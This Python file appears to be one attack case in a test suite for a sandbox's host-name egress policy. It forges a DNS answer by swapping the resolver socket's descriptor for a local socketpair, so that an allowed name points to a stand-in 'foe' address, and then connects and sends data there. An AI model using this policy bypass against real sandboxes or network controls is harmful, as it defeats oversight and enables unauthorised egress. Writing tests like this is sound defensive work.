"""A forged answer in the resolver's descriptor
Asks for an allowed name, puts a socket of one's own in the descriptor's place, and reads a forged answer.
policy: allowed-names
audit: explicitlyDeniedIP
since: 3.6
proof: arrival
"""
import os
import socket
import struct


def attack(at):
    # The answer says that an allowed name has the foe's address.
    packet = at.query(b"forged.good.test")
    answer = packet[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + packet[12:] + b"\xc0\x0c\0\1\0\1\0\0\1\0\0\4" + socket.inet_aton(at.FOE)
    asker = at.udp()
    asker.connect((at.RESOLVER, 53))
    asker.send(packet)
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    os.dup2(ours.fileno(), asker.fileno())
    theirs.send(answer)
    at.note(len(os.read(asker.fileno(), 500)))
    asker.detach()
    stream = at.tcp()
    stream.connect((at.FOE, at.PORT))
    return at.say(stream)
